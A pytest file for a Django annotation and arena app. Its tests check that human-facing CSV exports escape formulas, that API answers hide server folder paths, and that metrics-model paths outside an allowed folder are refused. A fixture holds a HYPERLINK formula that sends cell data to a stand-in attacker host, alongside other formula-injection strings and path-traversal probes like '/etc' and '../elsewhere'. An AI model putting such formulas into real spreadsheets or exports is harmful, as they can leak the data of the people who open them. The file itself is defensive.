"""The smaller leaks: formulas in human-facing CSVs, server paths in API answers, probing folders via metrics models."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from rest_framework.test import APIClient

from annotation.models import Campaign, Criterion, Participant
from arena.issuing import issue_comparison
from arena.voting import VoteInput, cast_votes
from core.spreadsheets import spreadsheet_cell
from generation.models import Generator, Prompt
from tests.exports.conftest import vote_all
from tests.exports.helpers import export
from tests.factories import CampaignFactory, GeneratorFactory

pytestmark = [pytest.mark.django_db]

CAPTION = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
CATEGORY = "@SUM(1+1)"


def read_csv(path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.open(encoding="utf-8")))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a = b", "a = b"),
        ("", ""),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert spreadsheet_cell(value) == written


def test_votes_and_leaderboard_csvs_escape_formulas_and_trainer_formats_keep_captions_exact(
    arena_campaign,  # noqa: F811
    tmp_path,
):
    # Given a campaign whose caption, category and generator names start like spreadsheet formulas
    campaign = arena_campaign(generators=2, prompts=1, per_queue=2, votes_per_pair=3, caption=CAPTION)
    Prompt.objects.filter(campaigns=campaign).update(category=CATEGORY)
    Generator.objects.filter(name="secret-generator-0").update(display_name="-2+3")
    vote_all(campaign, participants=3, per_participant=2)
    # When it is exported for people and for trainers
    export(campaign, "votes-csv", tmp_path / "votes")
    export(campaign, "leaderboard-csv", tmp_path / "board")
    export(campaign, "popalign-csv", tmp_path / "popalign", criterion="diversity")
    export(campaign, "kto-csv", tmp_path / "kto", criterion="diversity")
    # Then the human-facing CSVs hold those cells as text, a quote in front
    votes = read_csv(tmp_path / "votes" / "votes.csv")
    assert votes
    assert {(row["caption"], row["category"]) for row in votes} == {("'" + CAPTION, "'" + CATEGORY)}
    board = read_csv(tmp_path / "board" / "leaderboard.csv")
    assert "'-2+3" in {row["display_name"] for row in board}
    assert all(not row["rating"].startswith("'") for row in board), "numbers stay numbers"
    # And the trainer formats keep the caption exactly as stored
    assert {row["caption"] for row in read_csv(tmp_path / "popalign" / "train.csv")} == {CAPTION}
    assert {row["caption"] for row in read_csv(tmp_path / "kto" / "train_processed_v3.csv")} == {CAPTION}


def test_the_quality_csv_escapes_formulas(admin_client, arena_campaign):  # noqa: F811
    # Given a criterion whose key starts like a formula, and a participant who always answers left
    campaign = arena_campaign(per_queue=12, votes_per_pair=12)
    Criterion.objects.filter(campaign=campaign, key="diversity").update(key=CATEGORY)
    voter = Participant.objects.create()
    for _ in range(10):
        comparison = issue_comparison(campaign=campaign, participant=voter)
        at = comparison.issued_at + timedelta(seconds=9)
        votes = [VoteInput(CATEGORY, "left"), VoteInput("quality", "left")]
        cast_votes(token=comparison.token, participant=voter, votes=votes, dwell_ms=9000, now=at)
    # When staff download the quality report as CSV
    response = admin_client.get("/c/study/quality/?format=csv")
    # Then the criterion's cell is text
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["position_criterion"] in {"'" + CATEGORY, "quality"}
    assert CATEGORY not in {value for value in row.values()}


def test_the_export_api_answer_names_the_export_without_the_servers_folder(arena_campaign, settings, tmp_path):  # noqa: F811
    settings.EXPORTS_ROOT = tmp_path / "server-side" / "exports"
    campaign = arena_campaign()
    client = APIClient()
    client.force_login(get_user_model().objects.create_user("staff", password="x", is_staff=True))
    response = client.post(f"/api/v1/campaigns/{campaign.slug}/exports", {"format": "votes-csv"}, format="json")
    assert response.status_code == 201
    assert "path" not in response.json()
    assert "server-side" not in response.content.decode()
    assert str(tmp_path) not in response.content.decode()
    listed = client.get(f"/api/v1/campaigns/{campaign.slug}/exports")
    assert str(tmp_path) not in listed.content.decode()


def test_the_generators_api_shows_a_local_folder_by_its_name_only(tmp_path):
    folder = tmp_path / "srv" / "models" / "my-finetune"
    folder.mkdir(parents=True)
    GeneratorFactory(name="local-one", source=str(folder))
    GeneratorFactory(name="hub-one", source="segmind/tiny-sd")
    client = APIClient()
    client.force_login(get_user_model().objects.create_user("staff", password="x", is_staff=True))
    response = client.get("/api/v1/generators/")
    assert response.status_code == 200
    sources = {g["name"]: g["source"] for g in response.json()}
    assert sources["local-one"] == "local:my-finetune"
    assert sources["hub-one"] == "segmind/tiny-sd"
    assert str(tmp_path) not in response.content.decode()


def clip_config(model: str) -> dict:
    return {"gender": {"backend": "clip", "model": model, "classes": ["a man", "a woman"]}}


def refusal(model: str) -> str:
    campaign = CampaignFactory.build(metrics_attributes=clip_config(model))
    with pytest.raises(ValidationError) as refused:
        campaign.full_clean(exclude=["slug"])
    return str(refused.value.message_dict["metrics_attributes"])


def test_a_metrics_model_outside_the_models_folder_is_refused_alike_whether_or_not_it_exists(settings, tmp_path):
    # Given a models folder, and folders elsewhere on the server
    settings.METRICS_MODELS_DIR = tmp_path / "models"
    (tmp_path / "models" / "clip-b32").mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    # Then a folder outside it is refused with the same words whether it exists or not, naming neither
    existing, missing = refusal(str(tmp_path / "elsewhere")), refusal(str(tmp_path / "nowhere"))
    assert existing == missing
    assert str(tmp_path) not in existing
    assert "gender.model" in existing
    assert refusal("/etc") == refusal("/no/such/folder")
    assert refusal("../elsewhere") == missing, "no way out of the models folder"
    # And a folder in it (by name or full path) and a hub id are taken
    for model in ("clip-b32", str(tmp_path / "models" / "clip-b32"), "openai/clip-vit-base-patch32"):
        CampaignFactory.build(metrics_attributes=clip_config(model)).full_clean(exclude=["slug"])
    specs = Campaign(metrics_attributes=clip_config("clip-b32")).attribute_specs()
    assert specs[0].source == str((tmp_path / "models" / "clip-b32").resolve())
    assert specs[0].model == "clip-b32"
